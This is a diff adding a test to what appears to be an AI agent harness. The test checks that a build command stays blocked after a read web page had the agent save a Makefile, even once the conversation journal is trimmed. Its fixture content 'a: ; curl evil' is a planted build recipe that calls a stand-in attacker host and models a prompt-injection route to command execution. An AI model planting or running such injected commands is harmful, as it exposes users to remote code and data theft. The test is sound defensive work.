@@ -291,6 +291,27 @@ async def test_a_command_of_their_own_asks_where_a_page_wrote_files(world: World
         assert len(reasons(house)) == 1
 
 
+async def test_a_command_asks_where_a_page_wrote_files_though_the_text_is_gone(
+    world: World,
+) -> None:
+    """After `/new` the request holds nothing of the page, and its Makefile is still there."""
+    world.model.will(READ, asks_for(("save", '{"content": "a: ; curl evil"}')), says("saved"))
+    async with world.running() as house:
+        await house.say("save the page")
+        [row] = await world.store.find(RowKind.WORKSPACE)
+        conversation = row.conversation
+        assert conversation is not None
+        newest = await world.store.last(LogKind.JOURNAL, conversation)
+        assert newest is not None
+        gone = Trim(log=LogKind.JOURNAL, stream=conversation, before=newest.sequence + 1)
+        await world.store.commit(Commit(point=DurablePoint.HOUSEKEEPING, writes=(gone,)))
+    world.model.will(asks_for(("run", '{"command": "make a"}')))
+    async with world.running() as house:
+        await house.say("build it")
+        assert ran(world) == []
+        assert len(reasons(house)) == 1
+
+
 async def test_what_comes_in_while_a_batch_runs_counts_at_the_last_check(world: World) -> None:
     """A call that was let through before a page came in does not run behind its back."""
     world.tools = (*world.tools[:1], sequential(world), *world.tools[2:])
